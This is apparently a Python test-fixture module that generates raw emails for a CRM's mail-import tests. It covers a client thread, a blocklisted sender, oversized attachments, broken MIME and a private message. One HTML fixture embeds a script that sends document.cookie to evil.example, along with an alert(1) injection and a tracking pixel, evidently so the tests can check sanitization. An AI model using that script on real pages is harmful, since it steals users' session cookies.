"""Realistic mail for the import tests, written as the bytes a server hands over.

``mail(...)`` writes one message; ``MAILBOX`` is the mailbox of Anna, a salesperson
(anna@ourcompany.test), whose clients are seeded by ``seed_clients``: a thread of three
messages with Ivan of Acme, a mail to two clients at once, internal mail, a stranger on
webmail, a blocklisted sender, an HTML mail with a script and a remote image, attachments
(one over a 1 MB cap), an unreadable message, a message with broken MIME that can still be
read, a message without Message-ID filed in both INBOX and Sent, and one marked private.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

from sqlalchemy.orm import Session

from core.actor import Actor
from core.clients.organizations import create_organization
from core.clients.persons import create_person
from core.lists.blocklist import add_entry

ANNA = "anna@ourcompany.test"
BIG = 1_200_000
"""Size of the attachment over the 1 MB cap."""


def mail(
    *,
    sender: str,
    to: str,
    subject: str,
    body: str = "Hello.",
    msgid: str | None = None,
    date: str = "Mon, 2 Mar 2026 10:00:00 +0300",
    cc: str = "",
    extra: str = "",
    content_type: str = "text/plain; charset=utf-8",
) -> bytes:
    """One message (CRLF line ends); ``msgid`` None leaves the Message-ID out."""
    head = [f"From: {sender}", f"To: {to}", f"Subject: {subject}", f"Date: {date}"]
    head += [f"Cc: {cc}"] if cc else []
    head += [f"Message-ID: <{msgid}>"] if msgid else []
    head += [line for line in extra.split("\n") if line]
    head += ["MIME-Version: 1.0", f"Content-Type: {content_type}"]
    return ("\r\n".join(head) + "\r\n\r\n" + body.replace("\n", "\r\n") + "\r\n").encode()


def with_attachments(*, sender: str, to: str, subject: str, msgid: str, files: list[tuple[str, bytes]]) -> bytes:
    """A multipart/mixed message with a short text and these files, base64-encoded."""
    parts = ["--B\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease find the documents attached.\r\n"]
    for name, data in files:
        encoded = base64.encodebytes(data).decode().replace("\n", "\r\n")
        parts.append(
            f'--B\r\nContent-Type: application/pdf; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n'
            f'Content-Disposition: attachment; filename="{name}"\r\n\r\n{encoded}'
        )
    body = "".join(parts) + "--B--"
    return mail(
        sender=sender,
        to=to,
        subject=subject,
        msgid=msgid,
        body=body,
        date="Thu, 5 Mar 2026 14:00:00 +0300",
        content_type='multipart/mixed; boundary="B"',
    )


HTML = (
    "<html><head><script>document.location='http://evil.example/?c='+document.cookie</script></head>"
    "<body><p>Dear Anna,</p><p>our <b>new price list</b> is ready.</p>"
    "<img src='http://tracker.example/pixel.gif?u=anna'><script>alert(1)</script></body></html>"
)
UNREADABLE = b"\x00\x01garbage without any header\r\n\xff\xfe\xfd\r\n"
BROKEN_MIME = (
    b"From: Olga <olga@beta.test>\r\nTo: anna@ourcompany.test\r\nSubject: =?x-unknown?Q?Pr=C3=A9sentation?=\r\n"
    b"Message-ID: <broken-1@beta.test>\r\nDate: Thu, 5 Mar 2026 09:00:00 +0300\r\n"
    b'Content-Type: multipart/mixed; boundary="never-closed"\r\n\r\n--never-closed\r\n'
    b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.b64encode("Презентация во вложении.".encode())
    + b"\r\n"
)
NO_ID = mail(sender=ANNA, to="Olga <olga@beta.test>", subject="Call tomorrow?", body="Shall we call at 11?")

INBOX = [
    (
        "thread-2",
        mail(
            sender="Ivan Petrov <ivan@acme.test>",
            to=ANNA,
            subject="Re: Offer",
            msgid="thread-2@acme.test",
            date="Tue, 3 Mar 2026 09:00:00 +0300",
            body="Thanks, we accept.\n\nOn Mon, Anna wrote:\n> Our offer",
            extra="In-Reply-To: <thread-1@ourcompany.test>\nReferences: <thread-1@ourcompany.test>",
        ),
    ),
    ("internal", mail(sender="boris@ourcompany.test", to=ANNA, subject="Lunch?", msgid="lunch@ourcompany.test")),
    ("stranger", mail(sender="stranger@gmail.com", to=ANNA, subject="Hi", msgid="hi@gmail.com")),
    ("blocked", mail(sender="Spam <offers@spam.test>", to=ANNA, subject="Buy now", msgid="spam-1@spam.test")),
    (
        "html",
        mail(
            sender="Olga <olga@beta.test>",
            to=ANNA,
            subject="Price list",
            msgid="html-1@beta.test",
            body=HTML,
            content_type="text/html; charset=utf-8",
            date="Wed, 4 Mar 2026 12:00:00 +0300",
        ),
    ),
    (
        "files",
        with_attachments(
            sender="ivan@acme.test",
            to=ANNA,
            subject="Documents",
            msgid="files-1@acme.test",
            files=[("contract.pdf", b"%PDF-1.4 contract"), ("scan.pdf", b"%PDF-1.4 " + b"x" * BIG)],
        ),
    ),
    ("unreadable", UNREADABLE),
    ("broken", BROKEN_MIME),
    ("no-id", NO_ID),
    ("private", mail(sender="ivan@acme.test", to=ANNA, subject="Personal", msgid="private-1@acme.test")),
]
SENT = [
    (
        "thread-1",
        mail(
            sender=f"Anna <{ANNA}>",
            to="Ivan Petrov <ivan@acme.test>",
            subject="Offer",
            msgid="thread-1@ourcompany.test",
            date="Mon, 2 Mar 2026 10:00:00 +0300",
            body="Our offer: 200 units.",
        ),
    ),
    (
        "thread-3",
        mail(
            sender=ANNA,
            to="ivan@acme.test",
            subject="Re: Re: Offer",
            msgid="thread-3@ourcompany.test",
            date="Tue, 3 Mar 2026 11:00:00 +0300",
            body="Great, the contract follows.",
            extra="In-Reply-To: <thread-2@acme.test>\nReferences: <thread-1@ourcompany.test> <thread-2@acme.test>",
        ),
    ),
    (
        "two-clients",
        mail(
            sender=ANNA,
            to="ivan@acme.test, Olga <olga@beta.test>",
            subject="Joint meeting",
            msgid="joint@ourcompany.test",
            date="Wed, 4 Mar 2026 15:00:00 +0300",
        ),
    ),
    ("no-id", NO_ID),
]


@dataclass
class Clients:
    """The ids of the seeded clients."""

    acme: int
    ivan: int
    beta: int
    olga: int
    spam: int


def seed_clients(session: Session, actor: Actor, team_id: int) -> Clients:
    """Acme with Ivan, Beta with Olga, and Spam Inc, whose domain is then blocklisted."""
    acme = create_organization(session, actor=actor, name="Acme", email_domains=["acme.test"], team_id=team_id)
    ivan = create_person(
        session,
        actor=actor,
        first_name="Ivan",
        last_name="Petrov",
        emails=["ivan@acme.test"],
        organizations=[{"organization_id": acme.id}],
        team_id=team_id,
    )
    beta = create_organization(session, actor=actor, name="Beta", team_id=team_id)
    olga = create_person(
        session,
        actor=actor,
        first_name="Olga",
        emails=["olga@beta.test"],
        organizations=[{"organization_id": beta.id}],
        team_id=team_id,
    )
    spam = create_organization(session, actor=actor, name="Spam Inc", email_domains=["spam.test"], team_id=team_id)
    add_entry(session, actor=actor, kind="domain", value="spam.test", reason="spam")
    return Clients(acme.id, ivan.id, beta.id, olga.id, spam.id)
